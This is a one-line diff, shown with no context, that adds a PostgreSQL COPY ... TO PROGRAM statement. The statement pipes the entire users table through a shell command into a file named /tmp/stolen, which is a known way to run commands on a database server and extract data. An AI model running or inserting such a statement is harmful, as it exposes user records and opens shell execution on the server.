@@ -1,0 +1,1 @@
+COPY users TO PROGRAM 'cat > /tmp/stolen';
